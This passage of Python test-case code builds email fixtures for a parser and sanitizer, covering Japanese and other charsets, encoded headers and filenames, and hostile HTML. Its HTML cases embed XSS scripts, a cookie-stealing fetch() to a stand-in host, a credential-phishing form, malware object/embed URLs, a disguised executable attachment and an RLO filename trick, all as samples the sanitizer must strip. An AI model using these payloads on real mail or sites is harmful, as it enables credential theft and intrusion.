        contains=["大文字のBASE64です。", "混在表記のQuoted-Printableです。"])

    binary = bytes(range(256)) + b"\r\n\x00\x00END"
    add(c, "binary_cte_attachment",
        head("Binary").encode("ascii")
        + b'Content-Type: multipart/mixed; boundary="=_bin_77"\n\n'
        + b"--=_bin_77\n" + text_part("センサーのログを添付します。\n")
        + b"--=_bin_77\nContent-Type: application/octet-stream; name=\"sensor-log.bin\"\n"
        + b"Content-Disposition: attachment; filename=\"sensor-log.bin\"\nContent-Transfer-Encoding: binary\n\n"
        + b"@@BIN@@\n--=_bin_77--\n",
        "An attachment sent with Content-Transfer-Encoding: binary (raw bytes with NUL, CR, LF): "
        "removed and named, the parse of the rest is unaffected",
        contains=["センサーのログを添付します。", "sensor-log.bin"])
    # insert the raw binary after CRLF conversion
    last = CASES[-1]
    last.eml = last.eml.replace(b"@@BIN@@", binary)

    add(c, "base64_text_unpadded",
        head("Unpadded").encode("ascii")
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: base64\n\n"
        + b64("パディングのないBase64です。".encode()).rstrip("=").encode() + b"\n",
        "Base64 without the final '=' padding: decoded as far as it goes",
        contains=["パディングのないBase64です"])


# ===========================================================================
# charset/


NEC_TEXT = ("株式会社髙橋製作所\n山﨑 様\n"
            "①見積書 ②納品書 ③請求書\n"
            "㈱髙橋製作所 第Ⅴ期 決算報告（Ⅰ～Ⅴ）\n")


def charset_cases() -> None:
    c = "charset"

    add(c, "iso2022jp_nec_ibm",
        head(ew("①㈱髙橋製作所 第Ⅴ期のご案内", "ISO-2022-JP")).encode("ascii")
        + b"Content-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n\n"
        + jis(NEC_TEXT),
        "ISO-2022-JP as Outlook writes it (CP50220): NEC row-13 specials ①㈱ⅠⅤ (0x2D21, 0x2D6A, 0x2D35, "
        "0x2D39) and IBM extensions 髙 (JIS 0x7C62) and 﨑 (0x7975) via the NEC-selected rows 89-92",
        subject="①㈱髙橋製作所 第Ⅴ期のご案内",
        contains=["株式会社髙橋製作所", "山﨑 様", "①見積書 ②納品書 ③請求書", "㈱髙橋製作所 第Ⅴ期 決算報告"])

    add(c, "iso2022jp_halfwidth_kana",
        head(ew("ﾊﾝｶｸｶﾅの件名", "ISO-2022-JP")).encode("ascii")
        + b"Content-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n\n"
        + jis("半角カナ：ｶﾌﾞｼｷｶﾞｲｼｬ ﾃｽﾄ\n全角カナ：カブシキガイシャ\n"),
        "Half-width katakana in ISO-2022-JP via ESC ( I (CP50221): decoded to the half-width "
        "characters (U+FF61..U+FF9F), not dropped",
        subject="ﾊﾝｶｸｶﾅの件名",
        contains=["半角カナ：ｶﾌﾞｼｷｶﾞｲｼｬ ﾃｽﾄ", "全角カナ：カブシキガイシャ"])

    add(c, "shift_jis_cp932",
        head(ew("Shift_JISの本文")).encode("ascii")
        + b"Content-Type: text/plain; charset=Shift_JIS\nContent-Transfer-Encoding: 8bit\n\n"
        + sjis(NEC_TEXT + "半角ｶﾅ：ﾃｽﾄ\n表示、能力、ソフト、予定表（0x5C を含む文字）\n"),
        "Shift_JIS body with Windows extensions (髙 0xFBFC, 﨑 0xFAB1, ① 0x8740), half-width kana and "
        "characters whose second byte is 0x5C (表, 能, ソ): decoded as CP932",
        subject="Shift_JISの本文",
        contains=["株式会社髙橋製作所", "山﨑 様", "①見積書 ②納品書 ③請求書", "半角ｶﾅ：ﾃｽﾄ",
                  "表示、能力、ソフト、予定表"])

    labels = [("Shift_JIS", "ラベル Shift_JIS の段落です。"), ("x-sjis", "ラベル x-sjis の段落です。"),
              ("Windows-31J", "ラベル Windows-31J の段落です。髙"), ("MS932", "ラベル MS932 の段落です。①"),
              ("SJIS", "ラベル SJIS の段落です。")]
    add(c, "sjis_label_variants",
        head("Shift_JIS labels").encode("ascii")
        + multipart("=_labels", [
            f"Content-Type: text/plain; charset={lab}\nContent-Transfer-Encoding: base64\n\n".encode("ascii")
            + b64(sjis(t + "\n")).encode() + b"\n" for lab, t in labels]),
        "Five inline text parts labelled Shift_JIS, x-sjis, Windows-31J, MS932 and SJIS (all seen in "
        "the wild): every label is understood as CP932",
        contains=[t for _, t in labels])

    add(c, "euc_jp",
        head(ew("EUC-JPの本文")).encode("ascii")
        + b"Content-Type: text/plain; charset=EUC-JP\nContent-Transfer-Encoding: 8bit\n\n"
        + eucjp("日本語EUCで書かれたメールです。\n古いUNIXのメーラーから送信されました。\n"),
        "EUC-JP body (old Unix mailers), LF line ends as such systems write them",
        subject="EUC-JPの本文",
        contains=["日本語EUCで書かれたメールです。", "古いUNIXのメーラーから送信されました。"], eol="lf")

    add(c, "utf8_base64",
        head(ew("UTF-8の本文")).encode("ascii")
        + text_part("UTF-8で書かれた本文です。絵文字も含みます：🎌\n髙﨑①もUTF-8なら問題ありません。\n"),
        "UTF-8 base64 body with an emoji and the characters that are special in legacy charsets",
        subject="UTF-8の本文",
        contains=["UTF-8で書かれた本文です。絵文字も含みます：🎌", "髙﨑①もUTF-8なら問題ありません。"])

    add(c, "utf7",
        head("=?UTF-7?Q?+MEIwRDBG-?=").encode("ascii")
        + b"Content-Type: text/plain; charset=UTF-7\nContent-Transfer-Encoding: 7bit\n\n"
        + "UTF-7の本文です。\nHello, world.\n".encode("utf-7") + b"\n",
        "UTF-7 body and an UTF-7 encoded-word Subject: decoded (not shown as '+MEIw...' and never "
        "passed on as UTF-7)",
        subject="あいう",
        contains=["UTF-7の本文です。", "Hello, world."],
        not_contains=["+MEIw"])

    add(c, "iso8859_1",
        head("=?ISO-8859-1?Q?Gr=FC=DFe_aus_M=FCnchen?=").encode("ascii")
        + b"Content-Type: text/plain; charset=ISO-8859-1\nContent-Transfer-Encoding: quoted-printable\n\n"
        + qp("Grüße aus München.\nDas Café öffnet um 8 Uhr.\n".encode("latin-1")).encode(),
        "ISO-8859-1 body (quoted-printable) and subject",
        subject="Grüße aus München",
        contains=["Grüße aus München.", "Das Café öffnet um 8 Uhr."])

    add(c, "iso8859_15",
        head("=?ISO-8859-15?Q?Prix_20_=A4?=").encode("ascii")
        + b"Content-Type: text/plain; charset=ISO-8859-15\nContent-Transfer-Encoding: 8bit\n\n"
        + "Prix : 20 €\nŒuvre complète, Škoda.\n".encode("iso8859_15"),
        "ISO-8859-15: 0xA4 is the euro sign, 0xBC Œ, 0xA6 Š (ISO-8859-1 or windows-1252 would give "
        "¤, ¼, ¦)",
        subject="Prix 20 €",
        contains=["Prix : 20 €", "Œuvre complète, Škoda."],
        not_contains=["¤", "¼uvre"])

    add(c, "iso2022jp_label_on_sjis",
        head(ew("ラベル違い", "ISO-2022-JP")).encode("ascii")
        + b"Content-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 8bit\n\n"
        + sjis("ISO-2022-JPと宣言されていますが、中身はShift_JISです。\n髙橋様、よろしくお願いします。\n"),
        "Declared ISO-2022-JP but the bytes are 8-bit Shift_JIS (a mailer that forgot to convert): "
        "the real charset is detected, the text survives, the mislabel is recorded",
        subject="ラベル違い",
        contains=["ISO-2022-JPと宣言されていますが、中身はShift_JISです。", "髙橋様、よろしくお願いします。"],
        findings=["charset.mislabeled"])

    add(c, "iso2022jp_label_on_eucjp",
        head(ew("ラベル違い（EUC）", "ISO-2022-JP")).encode("ascii")
        + b"Content-Type: text/plain; charset=iso-2022-jp\nContent-Transfer-Encoding: 8bit\n\n"
        + eucjp("ISO-2022-JPと宣言されていますが、中身はEUC-JPです。\n漢字と平仮名が含まれます。\n"),
        "Declared ISO-2022-JP but the bytes are EUC-JP: detected, decoded, mislabel recorded",
        subject="ラベル違い（EUC）",
        contains=["ISO-2022-JPと宣言されていますが、中身はEUC-JPです。", "漢字と平仮名が含まれます。"],
        findings=["charset.mislabeled"])

    add(c, "sjis_label_on_utf8",
        head(ew("UTF-8なのにShift_JIS")).encode("ascii")
        + b"Content-Type: text/plain; charset=Shift_JIS\nContent-Transfer-Encoding: 8bit\n\n"
        + "Shift_JISと宣言されていますが、中身はUTF-8です。\n添付ファイルはありません。\n".encode("utf-8"),
        "Declared Shift_JIS but the bytes are UTF-8 (web forms and scripts do this): detected as UTF-8, "
        "not turned into mojibake",
        subject="UTF-8なのにShift_JIS",
        contains=["Shift_JISと宣言されていますが、中身はUTF-8です。", "添付ファイルはありません。"],
        findings=["charset.mislabeled"])

    add(c, "us_ascii_label_on_utf8",
        head(ew("us-asciiと宣言")).encode("ascii")
        + b"Content-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: 8bit\n\n"
        + "us-asciiと宣言されたUTF-8の本文です。\n".encode("utf-8"),
        "Declared us-ascii but the bytes are UTF-8 Japanese: decoded as UTF-8, mislabel recorded",
        subject="us-asciiと宣言",
        contains=["us-asciiと宣言されたUTF-8の本文です。"],
        findings=["charset.mislabeled"])

    add(c, "undeclared_8bit_sjis",
        head(ew("文字コード指定なし")).encode("ascii")
        + b"Content-Type: text/plain\nContent-Transfer-Encoding: 8bit\n\n"
        + sjis("charsetパラメータのないShift_JISの本文です。\n㈱テスト 山﨑\n"),
        "8-bit Shift_JIS body with Content-Type text/plain but no charset (default would be us-ascii): "
        "detected, decoded, recorded as undeclared",
        subject="文字コード指定なし",
        contains=["charsetパラメータのないShift_JISの本文です。", "㈱テスト 山﨑"],
        findings=["charset.undeclared"])

    add(c, "no_content_type_utf8",
        head(ew("Content-Typeなし")).encode("ascii")
        + b"\n" + "Content-Typeヘッダのない、UTF-8の本文です。\nよろしくお願いします。\n".encode("utf-8"),
        "No Content-Type header at all and a raw UTF-8 body: detected as UTF-8, recorded as undeclared",
        subject="Content-Typeなし",
        contains=["Content-Typeヘッダのない、UTF-8の本文です。", "よろしくお願いします。"],
        findings=["charset.undeclared"])

    add(c, "raw_8bit_sjis_subject",
        T("From: " + FROM + "\nTo: " + TO + "\nSubject: @@S@@\nDate: " + DATE
          + "\nMessage-ID: @@MID@@\nMIME-Version: 1.0\n"
          "Content-Type: text/plain; charset=shift_jis\nContent-Transfer-Encoding: 8bit\n\n@@B@@",
          S=sjis("【ご確認】見積書（髙橋）について"),
          B=sjis("件名がエンコードされずにShift_JISのまま送られています。\n")),
        "Raw 8-bit Shift_JIS in the Subject (no RFC 2047), as old Outlook/Becky versions send it: "
        "decoded as CP932 and re-encoded",
        subject="【ご確認】見積書（髙橋）について",
        contains=["件名がエンコードされずにShift_JISのまま送られています。"],
        findings=["header.raw_8bit"])

    add(c, "raw_8bit_utf8_subject_filename",
        T("From: " + FROM + "\nTo: " + TO + "\nSubject: @@S@@\nDate: " + DATE
          + "\nMessage-ID: @@MID@@\nMIME-Version: 1.0\n"
          'Content-Type: multipart/mixed; boundary="=_raw8"\n\n'
          "--=_raw8\nContent-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n@@B@@\n"
          "--=_raw8\nContent-Type: application/pdf; name=\"@@F@@\"\n"
          "Content-Disposition: attachment; filename=\"@@F@@\"\nContent-Transfer-Encoding: base64\n\n"
          + b64(PDF) + "\n--=_raw8--\n",
          S="月次報告書の送付（4月分）".encode("utf-8"),
          B="報告書を添付します。\n".encode("utf-8"),
          F="月次報告書_2024年4月.pdf".encode("utf-8")),
        "Raw UTF-8 (no RFC 2047/2231) in the Subject and in the attachment name and filename, as "
        "current Outlook and phones send them: decoded and re-encoded",
        subject="月次報告書の送付（4月分）",
        contains=["報告書を添付します。", "月次報告書_2024年4月.pdf"],
        findings=["header.raw_8bit"])

    add(c, "raw_8bit_sjis_filename",
        T(head(ew("見積書（改訂版）送付", "ISO-2022-JP"))
          + 'Content-Type: multipart/mixed; boundary="=_sjisname"\n\n'
          "--=_sjisname\n@@TP@@"
          "--=_sjisname\nContent-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;\n"
          " name=\"@@F@@\"\nContent-Disposition: attachment;\n filename=\"@@F@@\"\n"
          "Content-Transfer-Encoding: base64\n\n" + b64(XLSX) + "\n--=_sjisname--\n",
          TP=text_part("改訂版の見積書を添付します。\n", "ISO-2022-JP", "7bit"),
          F=sjis("見積書（改訂版）.xlsx")),
        "Raw 8-bit Shift_JIS attachment filename in a message whose body is ISO-2022-JP (the filename "
        "charset is not the body's): decoded as CP932 and named in the notice",
        subject="見積書（改訂版）送付",
        contains=["改訂版の見積書を添付します。", "見積書（改訂版）.xlsx"],
        findings=["header.raw_8bit"])

    add(c, "raw_8bit_sjis_filename_0x5c",
        T(head("Schedule")
          + 'Content-Type: multipart/mixed; boundary="=_5c"\n\n'
          "--=_5c\n@@TP@@"
          "--=_5c\nContent-Type: application/vnd.ms-excel; name=\"@@F@@\"\n"
          "Content-Disposition: attachment; filename=\"@@F@@\"\n"
          "Content-Transfer-Encoding: base64\n\n" + b64(fake_zip({"x": b"x"})) + "\n--=_5c--\n",
          TP=text_part("予定表を送ります。\n", "Shift_JIS", "8bit"),
          F=sjis("ソフト予定表.xls")),
        "Raw Shift_JIS filename whose characters ソ and 表 end in byte 0x5C ('\\'): a quoted-string "
        "reader that treats 0x5C as an escape eats the next byte; the name must still decode",
        contains=["予定表を送ります。", "ソフト予定表.xls"],
        findings=["header.raw_8bit"])

    html_sjis = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS">'
                 "</head><body><p>HTMLのmetaタグだけで文字コードを宣言しています。</p>"
                 "<p>㈱髙橋製作所</p></body></html>\n")
    add(c, "html_meta_charset_only",
        head(ew("metaで文字コード宣言")).encode("ascii")
        + b"Content-Type: text/html\nContent-Transfer-Encoding: 8bit\n\n" + sjis(html_sjis),
        "text/html with no charset parameter; the charset (Shift_JIS) is declared only in a <meta> "
        "element: the meta declaration is honoured",
        subject="metaで文字コード宣言",
        contains=["HTMLのmetaタグだけで文字コードを宣言しています。", "㈱髙橋製作所"])

    html_conf = ('<html><head><meta charset="Shift_JIS"></head><body>'
                 "<p>ヘッダはUTF-8、metaはShift_JIS、実際はUTF-8です。</p></body></html>\n")
    add(c, "html_meta_conflicts_header",
        head(ew("charsetの食い違い")).encode("ascii")
        + b"Content-Type: text/html; charset=UTF-8\nContent-Transfer-Encoding: base64\n\n"
        + b64(html_conf.encode("utf-8")).encode() + b"\n",
        "Content-Type says UTF-8, the HTML <meta> says Shift_JIS, the bytes are UTF-8: the MIME header "
        "wins (as in browsers), no mojibake",
        subject="charsetの食い違い",
        contains=["ヘッダはUTF-8、metaはShift_JIS、実際はUTF-8です。"])

    body = jis("末尾のエスケープシーケンスがありません。\n最後の行も日本語です。")
    assert body.endswith(b"\x1b(B")
    add(c, "iso2022jp_unterminated",
        head(ew("エスケープ不足", "ISO-2022-JP")).encode("ascii")
        + b"Content-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n\n"
        + body[:-3],
        "ISO-2022-JP body that ends in JIS X 0208 mode without ESC ( B and without a final line break "
        "(truncated by a gateway): the text up to the end is decoded",
        subject="エスケープ不足",
        contains=["末尾のエスケープシーケンスがありません。", "最後の行も日本語です。"])

    parts = [("EUC-KR", "안녕하세요. 회의 자료를 보내 드립니다."),
             ("GB2312", "你好，这是会议资料。"),
             ("Big5", "您好，這是會議資料。"),
             ("KOI8-R", "Здравствуйте, это материалы встречи."),
             ("windows-1251", "Добрый день, коллеги."),
             ("ISO-8859-7", "Καλημέρα σας.")]
    add(c, "other_charsets",
        head("International").encode("ascii")
        + multipart("=_intl", [
            f"Content-Type: text/plain; charset={cs}\nContent-Transfer-Encoding: base64\n\n".encode("ascii")
            + b64(t.encode(cs.lower().replace("windows-", "cp")) + b"\n").encode() + b"\n" for cs, t in parts]),
        "Inline text parts in EUC-KR, GB2312, Big5, KOI8-R, windows-1251 and ISO-8859-7: each decoded "
        "by its label",
        contains=[t for _, t in parts])

    add(c, "unknown_charset",
        head("Unknown charset").encode("ascii")
        + b"Content-Type: text/plain; charset=x-unknown-charset-2024\nContent-Transfer-Encoding: 7bit\n\n"
        + b"This text is plain ASCII although its charset label is unknown.\n",
        "An unknown charset label on a body that is pure ASCII: readable, the label is recorded",
        contains=["This text is plain ASCII although its charset label is unknown."],
        findings=["charset.unknown"])

    add(c, "control_chars_in_text",
        head("Terminal").encode("ascii")
        + b"Content-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: 7bit\n\n"
        + b"Visible line one.\n\x1b[2J\x1b[1;31mANSI colour\x1b[0m and a bell\x07.\n"
        + b"Overstrike: good\x08\x08\x08\x08evil\n\x0bVertical tab and form feed\x0c here.\n",
        "Terminal escape sequences, BEL, backspaces, VT and FF in a text body: control characters never "
        "reach the output text",
        contains=["Visible line one."],
        not_contains=["\x1b", "\x07", "\x08"],
        findings=["text.control_chars"])

    add(c, "bidi_in_body_text",
        head(ew("添付ファイルの確認")).encode("ascii")
        + text_part("次のファイルを開いてください：invoice\u202efdp.exe\nよろしくお願いします。\n"),
        "A right-to-left override inside the body text makes 'invoice<RLO>fdp.exe' display as "
        "'invoiceexe.pdf': recorded",
        subject="添付ファイルの確認",
        contains=["よろしくお願いします。"],
        findings=["text.bidi"])


# ===========================================================================
# rfc2047/


def rfc2047_cases() -> None:
    c = "rfc2047"

    subj = "令和6年度予算編成に関する説明会の開催について"
    add(c, "iso2022jp_subject_split",
        head(ew_words(subj, "ISO-2022-JP", per=6)).encode("ascii")
        + text_part("説明会を開催します。\n", "ISO-2022-JP", "7bit"),
        "A Japanese Subject split across several ISO-2022-JP B encoded-words, each a complete "
        "ESC $ B ... ESC ( B sequence, folded over lines",
        subject=subj,
        contains=["説明会を開催します。"])

    subj2 = "見積依頼の件（至急）"
    data = jis(subj2)
    add(c, "iso2022jp_subject_split_midchar",
        head(ew_bytes_split(data, "ISO-2022-JP", [6, 11])).encode("ascii")
        + text_part("見積依頼の本文です。\n", "ISO-2022-JP", "7bit"),
        "ISO-2022-JP Subject whose bytes are cut across encoded-words in the middle of a character "
        "and of the escape state (broken mailers): adjacent words of one charset are joined first",
        subject=subj2,
        contains=["見積依頼の本文です。"])

    subj3 = "年度末の棚卸しについてのお願い"
    data3 = subj3.encode("utf-8")
    add(c, "utf8_subject_split_midchar",
        head(ew_bytes_split(data3, "UTF-8", [7, 20, 29])).encode("ascii")
        + text_part("棚卸しの本文です。\n"),
        "UTF-8 Subject cut into B encoded-words in the middle of multi-byte characters (seen from "
        "several webmail systems): joined before decoding, no U+FFFD",
        subject=subj3,
        contains=["棚卸しの本文です。"],
        not_contains=["\ufffd"])

    mixed = (ew("【重要】", "UTF-8") + " " + ew("システム", "ISO-2022-JP") + "\n "
             + "=?SHIFT_JIS?Q?" + "".join(f"={b:02X}" for b in sjis("停止")) + "?= "
             + "for maintenance =?UTF-8?Q?=E3=81=AE=E3=81=8A=E7=9F=A5=E3=82=89=E3=81=9B?=")
    add(c, "subject_mixed_charsets",
        head(mixed).encode("ascii") + text_part("メンテナンスのお知らせです。\n"),
        "Adjacent encoded-words in UTF-8, ISO-2022-JP and Shift_JIS (Q), plus plain text between words: "
        "whitespace between encoded-words disappears, whitespace next to text stays",
        subject="【重要】システム停止 for maintenance のお知らせ",
        contains=["メンテナンスのお知らせです。"])

    add(c, "q_encoding_specials",
        head("=?UTF-8?Q?=E4=BC=9A=E8=AD=B0_=28=E7=AC=AC3=E5=9B=9E=29_=3F_=3D_=5F_ok?=").encode("ascii")
        + text_part("Q エンコーディングの特殊文字です。\n"),
        "Q encoding with underscore for space and escaped '(', ')', '?', '=', '_'",
        subject="会議 (第3回) ? = _ ok",
        contains=["Q エンコーディングの特殊文字です。"])

    add(c, "malformed_encoded_words",
        head("=?UTF-8?B?!!!not-base64?= =?UTF-8?X?unknown-encoding?= =?UTF-8?Q?no_end "
             "=?=?UTF-8?B?5q2j5bi4?=").encode("ascii")
        + text_part("壊れたエンコード語を含む件名です。\n"),
        "Subject with an invalid base64 word, an unknown encoding letter, an unterminated word and "
        "stray '=?': no crash, the output subject is valid (each word decodable on its own)",
        contains=["壊れたエンコード語を含む件名です。"])

    name = "令和6年度_事業計画書（最終版）.docx"
    add(c, "rfc2231_utf8_continuations",
        head(ew("事業計画書の送付")).encode("ascii")
        + multipart("=_2231a", [
            text_part("事業計画書を送付します。\n"),
            attach("application/vnd.openxmlformats-officedocument.wordprocessingml.document", DOCX,
                   ct_params=rfc2231("name", name.encode(), pieces=3),
                   disp_params=rfc2231("filename", name.encode(), pieces=3)),
        ]),
        "A Japanese filename split across RFC 2231 continuations (filename*0*, *1*, *2*) in UTF-8 "
        "percent-encoding: joined and decoded",
        subject="事業計画書の送付",
        contains=["事業計画書を送付します。", name])

    name2 = "議事録（第１回）.pdf"
    data2 = jis(name2)
    cut = data2.index(b"\x1b$B") + 3 + 3  # in the middle of the second double-byte character
    p0, p1 = pct(data2[:cut]), pct(data2[cut:])
    disp = f"filename*0*=ISO-2022-JP'ja'{p0};\n filename*1*={p1}"
    add(c, "rfc2231_iso2022jp_continuations",
        head(ew("議事録", "ISO-2022-JP")).encode("ascii")
        + multipart("=_2231b", [
            text_part("議事録を送付します。\n", "ISO-2022-JP", "7bit"),
            attach("application/pdf", PDF, ct_params=f"name*0*=ISO-2022-JP'ja'{p0};\n name*1*={p1}",
                   disp_params=disp),
        ]),
        "RFC 2231 filename in ISO-2022-JP with the continuation cut inside the escape-sequence run: "
        "decoded after joining, not per piece",
        subject="議事録",
        contains=["議事録を送付します。", name2])

    name3 = "会議資料一式.zip"
    segs = rfc2231("filename", name3.encode(), pieces=3).split(";\n ")
    assert len(segs) == 3
    disp3 = ";\n ".join([segs[2], segs[0], segs[1]])
    add(c, "rfc2231_unordered_continuations",
        head("Unordered").encode("ascii")
        + multipart("=_2231c", [
            text_part("順不同の継続パラメータです。\n"),
            attach("application/zip", fake_zip({"a.txt": b"a"}), disp_params=disp3),
        ]),
        "RFC 2231 continuations given out of order (*2*, *0*, *1*): assembled by number, not by "
        "position",
        contains=["順不同の継続パラメータです。", name3])

    add(c, "filename_and_filename_star_disagree",
        head(ew("請求書送付")).encode("ascii")
        + multipart("=_disagree", [
            text_part("請求書を添付しました。\n"),
            attach("application/pdf", PE,
                   ct_params='name="' + ew("請求書.pdf") + '"',
                   disp_params='filename="seikyusho.pdf";\n filename*=UTF-8\'\'' + pct("請求書.exe".encode())),
        ]),
        "filename=\"seikyusho.pdf\" and filename*= ... '請求書.exe' disagree (RFC 6266 clients use "
        "filename*), the content is an executable: removed, named by the name a client would use",
        subject="請求書送付",
        contains=["請求書を添付しました。", "請求書.exe"],
        not_contains=[PE_B64_HEAD],
        findings=["attachment.executable"])

    add(c, "encoded_word_in_quoted_filename",
        head(ew("見積書", "ISO-2022-JP")).encode("ascii")
        + multipart("=_ewname", [
            text_part("見積書を添付いたします。\n", "ISO-2022-JP", "7bit"),
            attach("application/pdf", PDF, ct_params='name="' + ew("御見積書_髙橋.pdf", "ISO-2022-JP") + '"',
                   disp_params='filename="' + ew("御見積書_髙橋.pdf", "ISO-2022-JP") + '"'),
        ]),
        "Encoded-word inside a quoted filename parameter (not RFC-conformant, but what most Japanese "
        "mailers send), in ISO-2022-JP with an IBM-extension character",
        subject="見積書",
        contains=["見積書を添付いたします。", "御見積書_髙橋.pdf"],
        findings=["attachment.rendered"])

    long_name = "令和6年度第1四半期_地域包括支援センター運営協議会_会議資料_最終版.xlsx"
    add(c, "encoded_word_folded_filename",
        head(ew("会議資料")).encode("ascii")
        + multipart("=_ewfold", [
            text_part("会議資料を添付します。\n"),
            attach("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", XLSX,
                   ct_params='name="' + ew_words(long_name, "ISO-2022-JP", per=12) + '"',
                   disp_params='filename="' + ew_words(long_name, "ISO-2022-JP", per=12) + '"'),
        ]),
        "A long Japanese filename as several ISO-2022-JP encoded-words inside one quoted parameter, "
        "folded across lines: joined without the folding whitespace",
        subject="会議資料",
        contains=["会議資料を添付します。", long_name])

    add(c, "rfc2231_shift_jis",
        head(ew("見積書")).encode("ascii")
        + multipart("=_2231sj", [
            text_part("Shift_JISのRFC 2231ファイル名です。\n"),
            attach("application/pdf", PDF, disp_params=rfc2231("filename", sjis("見積書.pdf"), "Shift_JIS", "ja")),
        ]),
        "RFC 2231 filename*=Shift_JIS'ja'%8C%A9... (Shift_JIS percent-encoded)",
        subject="見積書",
        contains=["Shift_JISのRFC 2231ファイル名です。", "見積書.pdf"])

    add(c, "rfc2231_raw_8bit",
        T(head("Raw star")
          + 'Content-Type: multipart/mixed; boundary="=_2231raw"\n\n'
          "--=_2231raw\n@@TP@@"
          "--=_2231raw\nContent-Type: application/pdf; name=\"@@SJ@@\"\n"
          "Content-Disposition: attachment; filename*=UTF-8''@@U8@@\n"
          "Content-Transfer-Encoding: base64\n\n" + b64(PDF) + "\n--=_2231raw--\n",
          TP=text_part("生の8bitの拡張パラメータです。\n"),
          SJ=sjis("報告書.pdf"), U8="報告書.pdf".encode("utf-8")),
        "filename*=UTF-8''報告書.pdf with raw UTF-8 instead of percent-encoding, and name= in raw "
        "Shift_JIS: both decode to the same name",
        contains=["生の8bitの拡張パラメータです。", "報告書.pdf"],
        findings=["header.raw_8bit"])

    add(c, "encoded_word_unknown_charset",
        head("=?x-unknown?B?5q2j5bi4?= =?UTF-8?B?" + ew("正常")[10:-2] + "?=").encode("ascii")
        + text_part("未知の文字コードのエンコード語です。\n"),
        "An encoded-word with an unknown charset next to a valid one: no crash, the valid word decodes",
        contains=["未知の文字コードのエンコード語です。"])


# ===========================================================================
# html/


def page(body: str, headx: str = "") -> str:
    return ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>お知らせ</title>\n" + headx
            + "</head>\n<body>\n" + body + "\n</body></html>\n")


def html_cases() -> None:
    c = "html"

    add(c, "script",
        msg_html(ew("システム更新のお知らせ"), page(
            "<p>システム更新のお知らせです。</p>\n"
            "<script>alert(\"XSS-1\")</script>\n"
            "<p>更新作業は4月10日に行います。</p>\n"
            "<svg width=\"10\" height=\"10\"><script>alert('XSS-2')</script></svg>\n"
            "<script\n>/*<![CDATA[*/ alert(\"XSS-3\") /*]]>*/</script >\n"
            "<p>ご協力をお願いいたします。</p>",
            "<script type=\"text/javascript\">\nvar c = document.cookie;\n"
            "fetch(\"https://evil.example.net/steal?c=\" + c);\n</script>\n"
            "<SCRIPT SRC=\"https://evil.example.net/payload.js\"></SCRIPT>\n")),
        "Script elements in head and body, upper case, with a src, inside SVG and with odd whitespace "
        "and CDATA: no script text ever reaches the output",
        subject="システム更新のお知らせ",
        contains=["システム更新のお知らせです。", "更新作業は4月10日に行います。", "ご協力をお願いいたします。"],
        not_contains=["alert(", "document.cookie", "evil.example.net", "payload.js", "CDATA"],
        findings=["html.script"])

    add(c, "event_handlers",
        msg_html(ew("議題のご案内"),
                 "<html><body onload=\"alert('onload')\">\n"
                 "<p onclick=\"alert('click')\">本日の議題は以下のとおりです。</p>\n"
                 "<img src=\"https://www.example.jp/room.png\" onerror=\"alert('onerror')\" alt=\"会議室の写真\">\n"
                 "<div onmouseover=\"alert('hover')\">マウスを乗せても何も起きません。</div>\n"
                 "<a href=\"https://www.example.jp/agenda\" onclick=\"alert('link')\">議題一覧</a>\n"
                 "<svg onload=\"alert('svg')\"></svg>\n"
                 "<details open ontoggle=\"alert('toggle')\"><summary>詳細</summary>会場は第3会議室です。</details>\n"
                 "</body></html>\n"),
        "on* event handler attributes (onload, onclick, onerror, onmouseover, ontoggle): dropped, the "
        "visible text and the link remain",
        subject="議題のご案内",
        contains=["本日の議題は以下のとおりです。", "マウスを乗せても何も起きません。",
                  "議題一覧 <https://www.example.jp/agenda>", "会場は第3会議室です。", "[画像: 会議室の写真]"],
        not_contains=["alert(", "onload", "onerror", "onmouseover", "ontoggle"],
        findings=["html.event_handler"])

    add(c, "iframe",
        msg_html(ew("請求書のご確認"), page(
            "<p>請求書は下記でご確認ください。</p>\n"
            "<iframe src=\"https://evil.example.net/invoice\" width=\"600\" height=\"400\"></iframe>\n"
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>\n"
            "<p>よろしくお願いいたします。</p>")),
        "iframe elements (remote src and srcdoc with script): removed without showing their targets",
        subject="請求書のご確認",
        contains=["請求書は下記でご確認ください。", "よろしくお願いいたします。"],
        not_contains=["evil.example.net", "alert(", "srcdoc"],
        findings=["html.iframe"])

    add(c, "form",
        msg_html(ew("アカウント再認証のお願い"), page(
            "<p>アカウントの有効期限が切れました。以下から再認証してください。</p>\n"
            "<form action=\"https://phish.example.net/collect\" method=\"post\">\n"
            "<label>メールアドレス</label><input type=\"text\" name=\"email\">\n"
            "<label>パスワード</label><input type=\"password\" name=\"pw\">\n"
            "<input type=\"hidden\" name=\"campaign\" value=\"HIDDEN-TOKEN-4711\">\n"
            "<button type=\"submit\" formaction=\"https://phish.example.net/alt\">送信</button>\n"
            "</form>\n<p>情報システム課</p>")),
        "A credential-phishing form: the form, its action URL and hidden inputs are removed; the "
        "surrounding text stays",
        subject="アカウント再認証のお願い",
        contains=["アカウントの有効期限が切れました。以下から再認証してください。", "情報システム課"],
        not_contains=["phish.example.net", "HIDDEN-TOKEN-4711"],
        findings=["html.form"])

    add(c, "object_embed_applet",
        msg_html(ew("資料"), page(
            "<p>資料をご覧ください。</p>\n"
            "<object data=\"https://malware.example.net/doc.swf\" type=\"application/x-shockwave-flash\">"
            "<param name=\"movie\" value=\"https://malware.example.net/doc.swf\"></object>\n"
            "<embed src=\"https://malware.example.net/clip.swf\" type=\"application/x-shockwave-flash\">\n"
            "<applet code=\"Evil.class\" codebase=\"https://malware.example.net/\"></applet>\n"
            "<p>以上です。</p>")),
        "object, embed (with param) and applet: removed, their URLs not shown",
        subject="資料",
        contains=["資料をご覧ください。", "以上です。"],
